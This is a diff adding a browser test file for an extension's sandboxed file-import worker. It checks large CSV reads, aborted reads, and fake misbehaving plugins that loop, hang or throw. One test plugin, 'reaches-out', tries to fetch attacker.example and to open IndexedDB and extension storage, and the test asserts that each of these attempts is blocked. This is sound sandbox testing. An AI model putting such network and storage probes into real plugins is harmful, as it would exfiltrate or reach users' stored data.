@@ -1,0 +1,127 @@
+/** Importers in the sandboxed worker of a real browser: long files, hostile plugins, and a reading that is stopped. */
+import type { Issue } from '@cyber-prevent/core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { openExtension, type TestExtension } from '../../page/test-extension.js';
+
+declare const test: {
+  about(): Promise<readonly string[]>;
+  read(importer: string, text: string, stopAt?: number): Promise<Seen>;
+};
+interface Seen {
+  readonly rows: readonly unknown[] | undefined;
+  readonly issues: readonly Issue[];
+  readonly progress: number;
+  readonly longTasks: readonly number[];
+  readonly frames: number;
+}
+
+const PANEL = `
+  import { fileClient } from '../sandbox/file/file-client.ts';
+  const files = fileClient('parse.html', { quietMs: 3000, wholeMs: 20000 });
+  globalThis.test = {
+    async about() {
+      const asked = await files.importers();
+      return asked.ok ? asked.value.map(({ id }) => id) : asked.issues.map(({ code }) => code);
+    },
+    async read(importer, text, stopAt) {
+      const longTasks = [];
+      const observer = new PerformanceObserver((list) => longTasks.push(...list.getEntries().map(({ duration }) => duration)));
+      observer.observe({ type: 'longtask' });
+      const stopper = new AbortController();
+      let progress = 0;
+      const bytes = new TextEncoder().encode(text);
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      longTasks.length = 0;
+      const read = await files.read({ importer, bytes, today: '2026-11-24' }, {
+        signal: stopper.signal,
+        onProgress() { progress += 1; if (progress === stopAt) stopper.abort(); },
+      });
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      observer.disconnect();
+      return {
+        rows: read.ok ? read.value.map(({ values }) => values) : undefined,
+        issues: read.issues, progress, longTasks, frames: document.querySelectorAll('iframe').length,
+      };
+    },
+  };
+`;
+/** The worker as it ships, with plugins beside that do what no plugin should. */
+const WORKER = `
+  import { answerFile } from '../sandbox/file/file-answer.ts';
+  import { HOSTED } from '../sandbox/file/hosted.ts';
+  const odd = (id, read) => ({ id, title: id, mediaTypes: [], extensions: [id], read });
+  const ODD = { name: 'odd', version: '1.0.0', importers: [
+    odd('endless', () => { for (;;); }),
+    odd('silent', () => new Promise(() => undefined)),
+    odd('chatty', async (_, { progress }) => { for (let at = 0; ; at += 1) { progress(at % 100, 100); await new Promise((resolve) => setTimeout(resolve, 5)); } }),
+    odd('thrower', () => { setTimeout(() => { throw new Error('later'); }); return new Promise(() => undefined); }),
+    odd('reaches-out', async () => {
+      const reached = [];
+      for (const [name, reach] of [
+        ['fetch', () => fetch('https://attacker.example/')],
+        ['storage', () => indexedDB.open('vault')],
+        ['chrome', () => chrome.storage.local],
+      ])
+        try { const got = await reach(); if (got instanceof IDBRequest) await new Promise((ok, no) => { got.onsuccess = ok; got.onerror = no; }); reached.push(name); } catch {}
+      return { ok: true, value: reached.map((name) => ({ values: { 'subject.name': [name] }, at: name, issues: [] })), issues: [] };
+    }),
+  ] };
+  addEventListener('message', ({ ports: [port] }) => {
+    if (port) port.onmessage = ({ data }) => void answerFile(data, [...HOSTED, ODD], (reply) => port.postMessage(reply));
+  });
+`;
+
+let extension: TestExtension;
+beforeAll(async () => {
+  extension = await openExtension(PANEL, { 'file-worker.js': WORKER });
+});
+afterAll(() => extension?.close());
+
+const read = (importer: string, text = '', stopAt?: number): Promise<Seen> =>
+  extension.panel.evaluate((...asked) => test.read(...asked), importer, text, stopAt);
+
+const LONG = `Name,Date of birth,Telephone\n${Array.from(
+  { length: 20_000 },
+  (_, row) => `Taz Vael ${row},14/03/2009,07700 900123\n`,
+).join('')}`;
+
+describe('a file', () => {
+  it('is read by the importers that ship', async () => {
+    expect(await extension.panel.evaluate(() => test.about())).toContain('single-online-home');
+    const { rows } = await read('csv', 'Name,DOB\nTaz Vael,14/03/2009\n');
+    expect(rows).toEqual([{ 'subject.name': ['Taz Vael'], 'subject.bornOn': ['14/03/2009'] }]);
+  });
+
+  it('of 20,000 rows is read with progress, and no long task in the page', async () => {
+    const { rows, progress, longTasks } = await read('csv', LONG);
+    expect(rows).toHaveLength(20_000);
+    expect(progress).toBeGreaterThan(10);
+    expect(longTasks).toEqual([]);
+  });
+
+  it('is stopped half-way, and leaves nothing', async () => {
+    const { rows, issues, frames } = await read('csv', LONG, 3);
+    expect(rows).toBeUndefined();
+    expect(issues.map(({ code }) => code)).toEqual(['file-stopped']);
+    expect(frames).toBe(0);
+  });
+});
+
+describe('an importer', () => {
+  it.each([
+    ['endless', 'file-too-slow'],
+    ['silent', 'file-too-slow'],
+    ['chatty', 'file-too-slow'],
+    ['thrower', 'file-broke'],
+    ['unknown', 'file-broke'],
+  ])('that is %s is ended, and said so', async (importer, code) => {
+    const { rows, issues, frames } = await read(importer);
+    expect(rows).toBeUndefined();
+    expect(issues.map((issue) => issue.code)).toEqual([code]);
+    expect(frames).toBe(0);
+  });
+
+  it('reaches no network, no database and nothing of the extension', async () => {
+    expect((await read('reaches-out')).rows).toEqual([]);
+  });
+});
